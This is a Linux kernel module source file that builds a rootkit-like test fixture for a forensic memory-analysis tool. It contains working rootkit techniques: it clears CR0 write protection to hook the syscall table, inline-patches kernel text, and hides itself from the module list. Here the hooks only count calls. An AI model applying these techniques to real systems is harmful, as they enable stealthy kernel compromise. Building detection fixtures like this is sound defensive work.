// SPDX-License-Identifier: GPL-2.0
/*
 * vmleak_rootkit: a rootkit-like test module for the forensic checks of
 * vmleak (hidden modules, syscall table hooks, kprobe and ftrace hooks,
 * patched kernel text). Written for the x86_64 6.1 kernel of the fixtures
 * (Debian bookworm); it is only ever loaded into a throw-away QEMU guest.
 *
 * At load it
 *  1. finds kallsyms_lookup_name (not exported since v5.7) as the address of
 *     a kprobe registered on it;
 *  2. replaces sys_call_table[__NR_getdents64] with vmleak_rootkit_getdents64
 *     (which calls the saved entry). x86_64 6.1 stable kernels dispatch
 *     system calls through x64_sys_call(), a switch, so the entry is never
 *     called: the hook is inert, yet it is in memory;
 *  3. registers a kprobe on KPROBE_SYMBOL whose pre-handler only counts;
 *  4. registers an ftrace_ops of its own, filtered on FTRACE_SYMBOL, whose
 *     callback only counts;
 *  5. overwrites the first 5 bytes of PATCH_SYMBOL (the show function of
 *     /proc/version, which the fixture guest never reads) with a jmp rel32
 *     to vmleak_rootkit_version_show, which prints the same fields;
 *  6. leaks `leak` kmalloc(leak_size) objects and `nobj` objects of its own
 *     cache vmleak_rootkit_obj, each starting with ROOTKIT_MAGIC, from
 *     vmleak_rootkit_stash();
 *  7. removes itself from the modules list (list_del_init), so /proc/modules
 *     and crash's `mod` no longer show it; /sys/module/vmleak_rootkit, its
 *     kobject and its mod_tree node stay.
 * Read-only kernel memory (the table, the text) is written with CR0.WP
 * cleared by a raw mov: native_write_cr0 pins WP since v5.3.
 *
 * Every address is printed to the kernel log with the prefix
 * "vmleak_rootkit:" as the fixture's ground truth (crash `log` reads it from
 * the dump). The module has no exit function: once hidden it cannot be
 * unloaded. The hooks and the leak function are not __init (init text is
 * freed after load) and not inlined, so their names stay in the module's
 * symbols.
 */
#include <linux/atomic.h>
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/irqflags.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/utsname.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/unistd.h>

#define ROOTKIT_MAGIC "VMLEAK-ROOTKIT"
#define HOOK_NR __NR_getdents64
#define KPROBE_SYMBOL "do_sys_openat2"
#define FTRACE_SYMBOL "vfs_statx"
#define PATCH_SYMBOL "version_proc_show"
#define JMP_LEN 5
#define OBJ_SIZE 256
#define MAX_OBJ 100000

#define VMLEAK_SITE noinline __attribute__((__noclone__))

static unsigned int leak = 300;
module_param(leak, uint, 0444);
MODULE_PARM_DESC(leak, "kmalloc objects leaked at load");
static unsigned int leak_size = 512;
module_param(leak_size, uint, 0444);
MODULE_PARM_DESC(leak_size, "size of each leaked kmalloc object");
static unsigned int nobj = 100;
module_param(nobj, uint, 0444);
MODULE_PARM_DESC(nobj, "objects of vmleak_rootkit_obj leaked at load");

typedef unsigned long (*lookup_fn_t)(const char *name);
typedef long (*syscall_fn_t)(const struct pt_regs *regs);

static struct kmem_cache *vmleak_rootkit_cache;
static unsigned long *vmleak_rootkit_table;
static syscall_fn_t vmleak_rootkit_orig_getdents64;
static atomic_long_t vmleak_rootkit_getdents64_calls;
static atomic_long_t vmleak_rootkit_kprobe_hits;
static atomic_long_t vmleak_rootkit_ftrace_hits;
static atomic_long_t vmleak_rootkit_version_calls;

/* The syscall hook: counts, then calls the entry it replaced. */
static VMLEAK_SITE long vmleak_rootkit_getdents64(const struct pt_regs *regs)
{
	atomic_long_inc(&vmleak_rootkit_getdents64_calls);
	return vmleak_rootkit_orig_getdents64(regs);
}

static VMLEAK_SITE int vmleak_rootkit_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
{
	atomic_long_inc(&vmleak_rootkit_kprobe_hits);
	return 0;
}

static VMLEAK_SITE notrace void vmleak_rootkit_ftrace_cb(unsigned long ip, unsigned long parent_ip,
							  struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	atomic_long_inc(&vmleak_rootkit_ftrace_hits);
}

/* The patched show function of /proc/version jumps here: same signature, same fields. */
static VMLEAK_SITE int vmleak_rootkit_version_show(struct seq_file *m, void *v)
{
	atomic_long_inc(&vmleak_rootkit_version_calls);
	seq_printf(m, "%s version %s %s\n", utsname()->sysname, utsname()->release, utsname()->version);
	return 0;
}

static struct kprobe vmleak_rootkit_kp = {
	.symbol_name = KPROBE_SYMBOL,
	.pre_handler = vmleak_rootkit_kprobe_pre,
};

static struct ftrace_ops vmleak_rootkit_ops = {
	.func = vmleak_rootkit_ftrace_cb,
};

static void rootkit_ctor(void *p)
{
	memset(p, 0, OBJ_SIZE);
}

/* Writes read-only kernel memory with CR0.WP cleared, interrupts off. */
static VMLEAK_SITE void vmleak_rootkit_write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;
	volatile u8 *d = dst;
	const u8 *s = src;
	size_t i;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0,%%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	for (i = 0; i < len; i++)
		d[i] = s[i];
	asm volatile("mov %0,%%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* The leaks: pointers dropped at once, never freed. */
static VMLEAK_SITE int vmleak_rootkit_stash(unsigned int n, unsigned int size, unsigned int nc)
{
	unsigned int i;

	for (i = 0; i < n; i++) {
		char *p = kmalloc(size, GFP_KERNEL);

		if (!p)
			return -ENOMEM;
		snprintf(p, size, "%s %u", ROOTKIT_MAGIC, i);
	}
	for (i = 0; i < nc; i++) {
		char *p = kmem_cache_alloc(vmleak_rootkit_cache, GFP_KERNEL);

		if (!p)
			return -ENOMEM;
		snprintf(p, OBJ_SIZE, "%s obj %u", ROOTKIT_MAGIC, i);
	}
	return 0;
}

static unsigned long find_kallsyms_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long addr;

	if (register_kprobe(&kp) < 0)
		return 0;
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	return addr;
}

static int __init vmleak_rootkit_init(void)
{
	char filter[] = FTRACE_SYMBOL;
	lookup_fn_t lookup;
	unsigned long kln, ftrace_addr;
	u8 *patch_addr, orig[JMP_LEN], jmp[JMP_LEN];
	s32 rel;
	int err;

	if (nobj > MAX_OBJ || leak > MAX_OBJ || leak_size == 0)
		return -EINVAL;

	/* 1. kallsyms_lookup_name, then everything else by name. */
	kln = find_kallsyms_lookup_name();
	if (!kln) {
		pr_err("vmleak_rootkit: no kallsyms_lookup_name\n");
		return -ENOENT;
	}
	lookup = (lookup_fn_t)kln;
	vmleak_rootkit_table = (unsigned long *)lookup("sys_call_table");
	ftrace_addr = lookup(FTRACE_SYMBOL);
	patch_addr = (u8 *)lookup(PATCH_SYMBOL);
	if (!vmleak_rootkit_table || !ftrace_addr || !patch_addr) {
		pr_err("vmleak_rootkit: symbol lookup failed\n");
		return -ENOENT;
	}
	pr_info("vmleak_rootkit: kallsyms_lookup_name=%px\n", (void *)kln);
	pr_info("vmleak_rootkit: module=%px core_base=%px core_size=%u\n", THIS_MODULE,
		THIS_MODULE->core_layout.base, THIS_MODULE->core_layout.size);

	/* 6 (first, so that a failure leaves no hook behind). */
	vmleak_rootkit_cache = kmem_cache_create("vmleak_rootkit_obj", OBJ_SIZE, 0, 0, rootkit_ctor);
	if (!vmleak_rootkit_cache)
		return -ENOMEM;
	err = vmleak_rootkit_stash(leak, leak_size, nobj);
	if (err)
		return err;
	pr_info("vmleak_rootkit: stash cache=vmleak_rootkit_obj cache_addr=%px nobj=%u leak=%u leak_size=%u site=%px"
		" site_sym=%ps\n", vmleak_rootkit_cache, nobj, leak, leak_size, vmleak_rootkit_stash, vmleak_rootkit_stash);

	/* 2. The syscall table entry. */
	vmleak_rootkit_orig_getdents64 = (syscall_fn_t)vmleak_rootkit_table[HOOK_NR];
	{
		unsigned long hook = (unsigned long)vmleak_rootkit_getdents64;

		vmleak_rootkit_write_ro(&vmleak_rootkit_table[HOOK_NR], &hook, sizeof(hook));
	}
	pr_info("vmleak_rootkit: syscall table=%px nr=%d entry=%px old=%px old_sym=%ps new=%px new_sym=%ps\n",
		vmleak_rootkit_table, HOOK_NR, &vmleak_rootkit_table[HOOK_NR], vmleak_rootkit_orig_getdents64,
		vmleak_rootkit_orig_getdents64, (void *)vmleak_rootkit_table[HOOK_NR], (void *)vmleak_rootkit_table[HOOK_NR]);

	/* 3. The kprobe. */
	err = register_kprobe(&vmleak_rootkit_kp);
	if (err)
		goto undo_table;
	pr_info("vmleak_rootkit: kprobe symbol=%s addr=%px handler=%px handler_sym=%ps kprobe=%px\n", KPROBE_SYMBOL,
		vmleak_rootkit_kp.addr, vmleak_rootkit_kprobe_pre, vmleak_rootkit_kprobe_pre, &vmleak_rootkit_kp);

	/* 4. The ftrace_ops. */
	err = ftrace_set_filter(&vmleak_rootkit_ops, filter, strlen(filter), 1);
	if (!err)
		err = register_ftrace_function(&vmleak_rootkit_ops);
	if (err)
		goto undo_kprobe;
	pr_info("vmleak_rootkit: ftrace function=%s addr=%px ops=%px callback=%px callback_sym=%ps\n", FTRACE_SYMBOL,
		(void *)ftrace_addr, &vmleak_rootkit_ops, vmleak_rootkit_ftrace_cb, vmleak_rootkit_ftrace_cb);

	/* 5. The inline hook. */
	memcpy(orig, patch_addr, JMP_LEN);
	rel = (s32)((long)vmleak_rootkit_version_show - (long)(patch_addr + JMP_LEN));
	jmp[0] = 0xe9;
	memcpy(&jmp[1], &rel, sizeof(rel));
	vmleak_rootkit_write_ro(patch_addr, jmp, JMP_LEN);
	pr_info("vmleak_rootkit: patch function=%s addr=%px orig=%*phN new=%*phN target=%px target_sym=%ps\n",
		PATCH_SYMBOL, patch_addr, JMP_LEN, orig, JMP_LEN, patch_addr, vmleak_rootkit_version_show,
		vmleak_rootkit_version_show);

	/* 7. Hidden from the modules list (kobject and mod_tree untouched). */
	list_del_init(&THIS_MODULE->list);
	pr_info("vmleak_rootkit: hidden module=%px name=%s\n", THIS_MODULE, THIS_MODULE->name);
	return 0;

undo_kprobe:
	unregister_kprobe(&vmleak_rootkit_kp);
undo_table:
	{
		unsigned long old = (unsigned long)vmleak_rootkit_orig_getdents64;

		vmleak_rootkit_write_ro(&vmleak_rootkit_table[HOOK_NR], &old, sizeof(old));
	}
	return err;
}

module_init(vmleak_rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A rootkit-like test module for vmleak's forensic fixtures");
